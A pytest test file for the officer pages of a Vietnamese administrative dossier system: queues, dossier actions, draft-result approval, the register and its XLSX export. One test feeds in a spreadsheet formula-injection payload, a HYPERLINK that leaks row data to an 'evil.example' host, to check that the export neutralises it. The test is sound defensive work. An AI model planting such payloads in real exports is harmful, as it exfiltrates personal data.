"""The officer's pages: queues with counts, the dossier page's actions, the register, the slips."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from motcua.accounts.models import OfficerRole
from motcua.dossiers import services
from motcua.dossiers.models import DossierStatus
from motcua.dossiers.tests.fixtures import make_officer, pdf_bytes, upload


@pytest.fixture
def staff(agency):
    return {r: make_officer(f"{r}.trang", agency, role=r) for r in OfficerRole.values}


@pytest.fixture
def sent(citizen, procedure, online_form, valid_data):
    draft = services.create_draft(procedure=procedure, applicant=citizen, data=valid_data)
    services.add_attachment(draft, component_order=1, upload=upload(pdf_bytes()), by=citizen)
    return services.submit(draft, by=citizen)


def test_queues_count_and_list(client, staff, sent):
    client.force_login(staff["desk"])
    page = client.get("/mot-cua/?hang-doi=new").content.decode()
    assert sent.code in page
    client.force_login(staff["specialist"])
    assert sent.code not in client.get("/mot-cua/?hang-doi=new").content.decode()


def test_each_role_opens_on_the_queue_where_its_work_waits(client, staff, sent):
    """Before, everyone opened on "assigned to me": the desk saw 0 while a new dossier waited, and a leader
    had no queue of the received dossiers waiting for assignment."""
    client.force_login(staff["desk"])
    page = client.get("/mot-cua/")
    assert page.context["current"] == "new" and sent.code in page.content.decode()
    services.receive(sent, by=staff["desk"])
    client.force_login(staff["leader"])
    page = client.get("/mot-cua/")
    assert page.context["current"] == "to_assign" and sent.code in page.content.decode()
    assert "new" not in [key for key, *_ in page.context["queues"]]  # not a desk officer
    client.force_login(staff["specialist"])
    assert client.get("/mot-cua/").context["current"] == "to_receive"
    assert client.get("/mot-cua/?hang-doi=to_assign").context["current"] == "to_receive"  # not theirs


def test_the_finished_queue_is_counted_up_to_a_cap(client, staff, procedure, agency, monkeypatch):
    from motcua.dossiers import queues
    from motcua.dossiers.tests.test_api import sent_rows

    monkeypatch.setattr(queues, "FINISHED_COUNT_CAP", 3)
    rows = sent_rows(procedure, agency, 5)
    for row in rows:
        row.finished_at = row.submitted_at
        row.save(update_fields=["finished_at"])
    counted = queues.counts(queues.Officer.of(staff["desk"]))
    assert (counted["finished"], counted.capped, counted.label("finished")) == (3, {"finished"}, "3+")
    assert counted["new"] == 0 and counted.label("new") == "0"
    monkeypatch.setattr(queues, "FILTERED_COUNT_CAP", 2)
    filtered = queues.counts(queues.Officer.of(staff["desk"]), queues.Filters(channel="online"))
    assert filtered.label("finished") == "2+"
    client.force_login(staff["desk"])
    page = client.get("/mot-cua/?hang-doi=finished").content.decode()
    assert "3+" in page and rows[-1].code in page
    assert "badge text-bg-danger" not in page  # no overdue dossier: the badge is not red


def test_acting_from_the_dossier_page(client, staff, sent):
    client.force_login(staff["desk"])
    page = client.get(f"/mot-cua/ho-so/{sent.code}/").content.decode()
    assert 'value="receive"' in page and 'value="approve"' not in page
    response = client.post(
        f"/mot-cua/ho-so/{sent.code}/thao-tac/", {"action": "receive", "version": sent.version}
    )
    assert response.status_code == 302
    sent.refresh_from_db()
    assert sent.status == DossierStatus.RECEIVED
    # The same button pressed again (a stale page): refused with a message, nothing changes.
    response = client.post(f"/mot-cua/ho-so/{sent.code}/thao-tac/", {"action": "receive", "version": 1})
    assert response.status_code == 302
    assert sent.events.filter(action="receive").count() == 1


def test_a_missing_reason_is_shown_on_the_page(client, staff, sent):
    client.force_login(staff["desk"])
    response = client.post(f"/mot-cua/ho-so/{sent.code}/thao-tac/", {"action": "refuse"})
    assert response.status_code == 400
    assert 'role="alert"' in response.content.decode()


def test_buttons_say_what_they_do_and_reasons_are_marked_required(client, staff, sent):
    """Before, the buttons bore the history's words: "Được tiếp nhận" (received) for receiving."""
    client.force_login(staff["desk"])
    page = client.get(f"/mot-cua/ho-so/{sent.code}/").content.decode()
    assert ">Tiếp nhận</button>" in page and ">Từ chối tiếp nhận</button>" in page
    assert "Được tiếp nhận" not in page
    refuse = page[page.index('value="refuse"') :]
    assert "Lý do (bắt buộc)" in refuse[: refuse.index("</form>")]
    assert 'name="note" rows="2" required' in refuse[: refuse.index("</form>")]
    receive = page[page.index('value="receive"') :]
    assert " required" not in receive[: receive.index("</form>")]


def test_an_online_dossier_is_returned_online_unless_the_desk_says_otherwise(client, staff, sent):
    sent = services.receive(sent, by=staff["desk"])
    sent = services.reject(sent, by=staff["leader"], note="Không đủ điều kiện")
    client.force_login(staff["desk"])
    page = client.get(f"/mot-cua/ho-so/{sent.code}/").content.decode()
    assert '<option value="online" selected>' in page and ">Trả kết quả</button>" in page
    response = client.post(
        f"/mot-cua/ho-so/{sent.code}/thao-tac/", {"action": "return_result", "version": sent.version}
    )
    assert response.status_code == 302
    assert sent.events.get(action="return_result").detail["method"] == "online"


def test_the_leader_reads_the_draft_result_before_signing_it(client, staff, sent, agency, demo_pki):
    """Before, "approve and sign" was a button on the dossier page: the leader signed a result never seen."""
    from pypdf import PdfReader

    from motcua.documents import pki
    from motcua.dossiers.papers import result as result_paper

    sent = services.receive(sent, by=staff["desk"])
    sent = services.propose(sent, by=staff["specialist"], note="Đủ điều kiện")
    client.force_login(staff["leader"])
    page = client.get(f"/mot-cua/ho-so/{sent.code}/").content.decode()
    assert f'href="/mot-cua/ho-so/{sent.code}/phe-duyet/"' in page and 'value="approve"' not in page
    approval = client.get(f"/mot-cua/ho-so/{sent.code}/phe-duyet/").content.decode()
    assert (
        f'<iframe class="attachment-preview result-draft" src="/mot-cua/ho-so/{sent.code}/phe-duyet/'
        in approval
    )
    assert 'value="approve"' in approval and 'data-busy-label="Đang ký…"' in approval
    assert "<script>" not in approval and "/static/backoffice/busy.js" in approval  # no inline script (CSP)
    draft = client.get(f"/mot-cua/ho-so/{sent.code}/phe-duyet/du-thao.pdf")
    assert draft["Content-Type"] == "application/pdf" and draft["X-Frame-Options"] == "SAMEORIGIN"
    text = PdfReader(io.BytesIO(draft.content)).pages[0].extract_text()
    assert "DỰ THẢO" in text and sent.code in text
    assert result_paper.standing(sent) is None  # nothing numbered, signed or stored by reading the draft
    client.force_login(staff["desk"])  # not theirs to approve
    assert client.get(f"/mot-cua/ho-so/{sent.code}/phe-duyet/").status_code == 404
    assert client.get(f"/mot-cua/ho-so/{sent.code}/phe-duyet/du-thao.pdf").status_code == 404
    pki.ensure_demo_certificate(agency)
    client.force_login(staff["leader"])
    response = client.post(
        f"/mot-cua/ho-so/{sent.code}/thao-tac/", {"action": "approve", "version": sent.version}
    )
    assert response.status_code == 302
    sent.refresh_from_db()
    assert sent.result_number and sent.events.filter(action="approve").exists()


def test_comments_stay_internal(client, staff, sent, citizen):
    client.force_login(staff["desk"])
    client.post(f"/mot-cua/ho-so/{sent.code}/y-kien/", {"text": "Gọi điện xác nhận"})
    assert "Gọi điện xác nhận" in client.get(f"/mot-cua/ho-so/{sent.code}/").content.decode()
    client.force_login(citizen)
    assert "Gọi điện xác nhận" not in client.get(f"/ho-so/{sent.code}/").content.decode()
    assert client.post(f"/mot-cua/ho-so/{sent.code}/y-kien/", {"text": "x"}).status_code == 404


def test_register_page_and_xlsx(client, staff, sent):
    client.force_login(staff["desk"])
    page = client.get("/mot-cua/so-theo-doi/?tu-ngay=2020-01-01&den-ngay=2099-01-01").content.decode()
    assert sent.code in page
    response = client.get("/mot-cua/so-theo-doi/?tu-ngay=2020-01-01&den-ngay=2099-01-01&dinh-dang=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[2][:3] == ("STT", "Mã hồ sơ", "Tên thủ tục hành chính")
    assert rows[3][1] == sent.code


def test_the_register_never_turns_an_applicants_text_into_a_formula(client, staff, procedure, agency):
    """A citizen registered as =HYPERLINK(…) with the address =1+2: before, the desk's download held them
    as formulas (<f> cells) that send the row to a stranger's site when the officer opens the file."""
    name, address = '=HYPERLINK("http://evil.example/?leak="&C5,"Xem hồ sơ")', "=1+2"
    services.register_at_counter(
        officer=staff["desk"], procedure=procedure, agency=agency, channel="in_person",
        applicant={"name": name, "id_number": "030080012345", "address": address, "kind": "citizen"},
    )  # fmt: skip
    client.force_login(staff["desk"])
    response = client.get("/mot-cua/so-theo-doi/?tu-ngay=2020-01-01&den-ngay=2099-01-01&dinh-dang=xlsx")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml
    row = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))[3]
    assert name in row and address in row


def test_the_control_sheet_pdf(client, staff, sent):
    client.force_login(staff["desk"])
    response = client.get(f"/mot-cua/ho-so/{sent.code}/phieu/control_sheet/")
    assert response.status_code == 200 and response.content.startswith(b"%PDF")


@pytest.mark.parametrize("odd", ["²", "9" * 5000, "-3"])
def test_numbers_that_are_not_numbers_are_no_server_error(client, staff, sent, odd):
    """``version=²`` on the action form and ``?trang=²`` on the queues were server errors."""
    client.force_login(staff["desk"])
    assert client.get("/mot-cua/", {"hang-doi": "new", "trang": odd, "trang-thai": odd}).status_code == 200
    assert client.get("/mot-cua/so-theo-doi/", {"trang": odd}).status_code == 200
    response = client.post(f"/mot-cua/ho-so/{sent.code}/thao-tac/", {"action": "receive", "version": odd})
    assert response.status_code == 302
    sent.refresh_from_db()
    assert sent.status == DossierStatus.RECEIVED  # a malformed version is no version
